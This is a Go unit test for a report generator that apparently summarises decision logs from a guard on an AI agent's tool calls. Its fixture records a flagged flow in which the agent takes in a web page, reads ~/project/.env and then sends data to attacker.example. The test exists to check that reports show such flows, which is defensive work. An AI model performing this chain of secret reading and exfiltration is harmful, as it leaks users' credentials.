package report

import (
	"bytes"
	"strings"
	"testing"
)

func TestTheReportShowsFlowsAsTheirOwnSection(t *testing.T) {
	rp := New()
	log := `{"ts":"2026-11-27T10:00:00Z","rid":"r1","host":"mac-1","session":"local_a","mode":"enforce","enforced":true,"tool":"WebFetch","decision":"ask","rule":"flow.untrusted-private-send","input":{"url":"https://attacker.example"},"flow":["took in web:issues.example (WebFetch toolu_1)","read ~/project/.env (Read toolu_2)","sends to attacker.example (WebFetch toolu_3)"]}
{"ts":"2026-11-27T10:00:01Z","rid":"r2","host":"mac-1","session":"local_a","mode":"enforce","tool":"Read","decision":"allow","input":{"file_path":"x"}}
`
	if err := rp.Add("decisions.jsonl", strings.NewReader(log)); err != nil {
		t.Fatal(err)
	}
	rp.Finish()
	if len(rp.Flows) != 1 || len(rp.Flows[0].Calls) != 3 || rp.Flows[0].Session != "local_a" {
		t.Fatalf("flows %+v", rp.Flows)
	}
	var text, page bytes.Buffer
	rp.WriteText(&text, 10)
	if !strings.Contains(text.String(), "flows: a send after") || !strings.Contains(text.String(), "read ~/project/.env (Read toolu_2)") {
		t.Errorf("the text report has no flow section:\n%s", text.String())
	}
	rp.WriteHTML(&page, 10)
	if !strings.Contains(page.String(), "<h2>Flows (1") || !strings.Contains(page.String(), "toolu_3") {
		t.Error("the page has no flow section")
	}
}
